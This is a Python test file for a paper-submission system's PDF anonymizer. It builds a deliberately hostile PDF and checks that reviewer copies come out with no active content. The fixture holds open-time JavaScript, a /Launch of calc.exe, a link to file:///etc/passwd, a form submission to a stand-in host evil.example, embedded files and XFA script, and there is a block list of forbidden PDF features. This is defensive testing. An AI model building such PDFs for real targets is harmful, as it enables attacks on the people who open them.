"""The copy reviewers download holds no active content, whatever the author's PDF carries.

``hostile_pdf`` builds a genuinely hostile paper: document-level JavaScript that runs on open,
page and annotation additional-actions, a ``/Launch`` action, links that run JavaScript or open
other files, an embedded file and a file-attachment annotation, a form with XFA, a RichMedia
annotation, and metadata (Info and XMP) naming the author. The anonymized copy is searched
twice: as raw bytes and as parsed objects (every object, every decoded stream).
"""

import io
import re
import zlib

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from reportlab.pdfgen import canvas

from submissions import pdf

AUTHOR = "Ada Lovelace"
SAFE_URL = "https://example.org/code"

# Names and strings that must not be in the reviewer copy: active content, attachments, forms.
FORBIDDEN_NAMES = [
    "/JavaScript",
    "/JS",
    "/OpenAction",
    "/AA",
    "/Launch",
    "/EmbeddedFile",
    "/EmbeddedFiles",
    "/FileAttachment",
    "/AcroForm",
    "/XFA",
    "/RichMedia",
    "/RichMediaContent",
    "/SubmitForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
    "/Rendition",
    "/Next",
]
FORBIDDEN_TEXT = [AUTHOR, "app.alert", "calc.exe", "javascript:", "secret-notes", "file:///"]


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(writer, kind: str, **entries) -> object:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value
    return writer._add_object(action)


def _js(writer, code: str):
    return _action(writer, "/JavaScript", JS=TextStringObject(code))


def _link(writer, rect, action, **extra) -> object:
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject(FloatObject(v) for v in rect),
            _name("/Border"): ArrayObject([NumberObject(0)] * 3),
            _name("/A"): action,
        }
    )
    for key, value in extra.items():
        annotation[_name(f"/{key}")] = value
    return writer._add_object(annotation)


def _stream(writer, data: bytes, **entries) -> object:
    stream = DecodedStreamObject()
    stream.set_data(data)
    for key, value in entries.items():
        stream[_name(f"/{key}")] = value
    return writer._add_object(stream)


def hostile_pdf() -> bytes:
    buffer = io.BytesIO()
    c = canvas.Canvas(buffer, invariant=1)
    c.setAuthor(AUTHOR)
    c.drawString(72, 770, "Robust training under label noise")
    c.drawString(72, 740, "Code: https://example.org/code")
    c.linkURL(SAFE_URL, (72, 735, 300, 752))
    c.bookmarkPage("results")
    c.showPage()
    c.drawString(72, 770, "Results")
    c.showPage()
    c.save()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(buffer.getvalue())))
    page = writer.pages[0]

    # Document level: JavaScript on open, a JavaScript name tree, document actions.
    writer._root_object[_name("/OpenAction")] = _js(writer, "app.alert('opened')")
    writer._root_object[_name("/AA")] = DictionaryObject(
        {_name("/WC"): _js(writer, "app.alert('closing')")}
    )
    # An embedded file (document attachments) and the author in Info and XMP.
    writer.add_attachment("secret-notes.txt", f"Written by {AUTHOR}".encode())
    names = writer._root_object["/Names"]
    names[_name("/JavaScript")] = DictionaryObject(
        {
            _name("/Names"): ArrayObject(
                [TextStringObject("on-open"), _js(writer, "app.alert('name tree')")]
            )
        }
    )
    writer.add_metadata({"/Author": AUTHOR, "/Creator": AUTHOR})
    writer.xmp_metadata = (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:creator><rdf:Seq><rdf:li>{AUTHOR}</rdf:li></rdf:Seq></dc:creator>"
        '</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    ).encode()

    # Page level: JavaScript when the page opens and closes.
    page[_name("/AA")] = DictionaryObject(
        {
            _name("/O"): _js(writer, "app.alert('page open')"),
            _name("/C"): _js(writer, "app.alert('page close')"),
        }
    )
    annotations = page.setdefault(_name("/Annots"), ArrayObject())
    # Links whose action is active: a program to launch, JavaScript, a javascript: URI, a
    # remote file, a form submission, and a harmless-looking URI chained to JavaScript.
    annotations.extend(
        [
            _link(
                writer,
                (72, 600, 200, 620),
                _action(writer, "/Launch", F=TextStringObject("calc.exe")),
            ),
            _link(writer, (72, 580, 200, 600), _js(writer, "app.alert('clicked')")),
            _link(
                writer,
                (72, 560, 200, 580),
                _action(writer, "/URI", URI=TextStringObject("javascript:app.alert(1)")),
            ),
            _link(
                writer,
                (72, 540, 200, 560),
                _action(
                    writer,
                    "/GoToR",
                    F=TextStringObject("file:///etc/passwd"),
                    D=ArrayObject([NumberObject(0), _name("/Fit")]),
                ),
            ),
            _link(
                writer,
                (72, 520, 200, 540),
                _action(writer, "/SubmitForm", F=TextStringObject("https://evil.example/collect")),
            ),
            _link(
                writer,
                (72, 500, 200, 520),
                _action(
                    writer,
                    "/URI",
                    URI=TextStringObject("https://example.org/chained"),
                    Next=_js(writer, "app.alert('next')"),
                ),
                AA=DictionaryObject({_name("/E"): _js(writer, "app.alert('mouse enter')")}),
            ),
        ]
    )
    # Actions that open embedded or other files, or play media.
    for number, kind in enumerate(("/GoToE", "/ImportData", "/Rendition")):
        target = _action(writer, kind, F=TextStringObject("secret-notes.txt"))
        annotations.append(_link(writer, (220, 600 - 20 * number, 280, 620 - 20 * number), target))
    # A file-attachment annotation and a RichMedia annotation.
    attached = _stream(writer, b"secret-notes of the author", Type=_name("/EmbeddedFile"))
    annotations.append(
        writer._add_object(
            DictionaryObject(
                {
                    _name("/Type"): _name("/Annot"),
                    _name("/Subtype"): _name("/FileAttachment"),
                    _name("/Rect"): ArrayObject(FloatObject(v) for v in (300, 600, 320, 620)),
                    _name("/FS"): DictionaryObject(
                        {
                            _name("/Type"): _name("/Filespec"),
                            _name("/F"): TextStringObject("secret-notes.txt"),
                            _name("/EF"): DictionaryObject({_name("/F"): attached}),
                        }
                    ),
                }
            )
        )
    )
    annotations.append(
        writer._add_object(
            DictionaryObject(
                {
                    _name("/Type"): _name("/Annot"),
                    _name("/Subtype"): _name("/RichMedia"),
                    _name("/Rect"): ArrayObject(FloatObject(v) for v in (300, 500, 400, 560)),
                    _name("/RichMediaContent"): DictionaryObject(
                        {_name("/Assets"): DictionaryObject()}
                    ),
                }
            )
        )
    )
    # A form: a widget that runs JavaScript on focus, and XFA.
    widget = writer._add_object(
        DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Widget"),
                _name("/FT"): _name("/Tx"),
                _name("/T"): TextStringObject("name"),
                _name("/Rect"): ArrayObject(FloatObject(v) for v in (300, 400, 500, 420)),
                _name("/AA"): DictionaryObject({_name("/Fo"): _js(writer, "app.alert('focus')")}),
                _name("/P"): page.indirect_reference,
            }
        )
    )
    annotations.append(widget)
    xfa = _stream(writer, b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>")
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {
            _name("/Fields"): ArrayObject([widget]),
            _name("/XFA"): xfa,
        }
    )
    # An internal link to page 2, which reviewers keep.
    annotations.append(
        _link(
            writer,
            (72, 460, 200, 480),
            _action(
                writer, "/GoTo", D=ArrayObject([writer.pages[1].indirect_reference, _name("/Fit")])
            ),
        )
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _streams_decoded(data: bytes) -> bytes:
    """Every stream's bytes, inflated where they are Flate-compressed."""
    found = []
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.DOTALL):
        raw = match.group(1)
        try:
            found.append(zlib.decompressobj().decompress(raw))
        except zlib.error:
            found.append(raw)
    return b"\n".join(found)


def _raw_findings(data: bytes) -> list[str]:
    text = data + b"\n" + _streams_decoded(data)
    # Literal strings may spell characters as octal escapes: "(calc\\056exe)".
    text = re.sub(rb"\\([0-7]{1,3})", lambda m: bytes([int(m.group(1), 8) & 0xFF]), text)
    found = [
        name
        for name in FORBIDDEN_NAMES
        if re.search(re.escape(name.encode()) + rb"(?![A-Za-z0-9])", text)
    ]
    found += [word for word in FORBIDDEN_TEXT if word.lower().encode() in text.lower()]
    return found


def _parsed_findings(data: bytes) -> list[str]:
    """Walk every object of the file (not only what the pages reach), names, strings and
    decoded streams."""
    reader = PdfReader(io.BytesIO(data))
    found = set()
    size = int(reader.trailer.get("/Size", 0))
    for number in range(1, size):
        try:
            obj = reader.get_object(number)
        except Exception:  # noqa: BLE001 — a free entry
            continue
        stack = [obj]
        while stack:
            item = stack.pop()
            if isinstance(item, DictionaryObject):
                for key, value in item.items():
                    if key in FORBIDDEN_NAMES:
                        found.add(key)
                    if key not in ("/Parent", "/P"):
                        if not hasattr(value, "idnum"):
                            stack.append(value)
                if isinstance(item, StreamObject):
                    payload = item.get_data().lower()
                    found.update(w for w in FORBIDDEN_TEXT if w.lower().encode() in payload)
            elif isinstance(item, ArrayObject):
                stack.extend(v for v in item if not hasattr(v, "idnum"))
            elif isinstance(item, NameObject) and item in FORBIDDEN_NAMES:
                found.add(str(item))
            elif isinstance(item, str):
                found.update(w for w in FORBIDDEN_TEXT if w.lower() in item.lower())
    if reader.metadata:
        found.update(w for w in FORBIDDEN_TEXT for v in reader.metadata.values() if w in str(v))
    if reader.xmp_metadata is not None:
        found.add("XMP")
    if reader.attachments:
        found.add("attachments")
    return sorted(found)


def test_the_hostile_pdf_is_hostile():
    """The fixture really carries every threat, seen by both scans (so the test can fail)."""
    data = hostile_pdf()
    raw = _raw_findings(data)
    parsed = _parsed_findings(data)
    assert set(FORBIDDEN_NAMES) <= set(raw), set(FORBIDDEN_NAMES) - set(raw)
    assert set(FORBIDDEN_TEXT) <= set(raw), set(FORBIDDEN_TEXT) - set(raw)
    assert set(FORBIDDEN_NAMES) <= set(parsed), set(FORBIDDEN_NAMES) - set(parsed)
    assert {"XMP", "attachments"} <= set(parsed)
    # It passes the upload checks: a paper like this can reach reviewers.
    from django.core.files.uploadedfile import SimpleUploadedFile

    checked = pdf.check_pdf(SimpleUploadedFile("paper.pdf", data), max_mb=5)
    assert checked.pages == 2


def test_reviewer_copy_of_a_hostile_pdf_has_no_active_content():
    copy = pdf.anonymize_pdf(hostile_pdf())

    assert _raw_findings(copy) == []
    assert _parsed_findings(copy) == []


def test_reviewer_copy_keeps_the_pages_and_the_safe_links():
    copy = PdfReader(io.BytesIO(pdf.anonymize_pdf(hostile_pdf())))

    assert len(copy.pages) == 2
    assert "Robust training under label noise" in copy.pages[0].extract_text()
    actions = [
        annotation.get_object()["/A"].get_object()
        for annotation in copy.pages[0]["/Annots"]
        if "/A" in annotation.get_object()
    ]
    uris = sorted(str(a["/URI"]) for a in actions if a["/S"] == "/URI")
    assert uris == ["https://example.org/chained", SAFE_URL]
    internal = [a for a in actions if a["/S"] == "/GoTo"]
    assert len(internal) == 1
    assert internal[0]["/D"][0].get_object() == copy.pages[1].get_object()
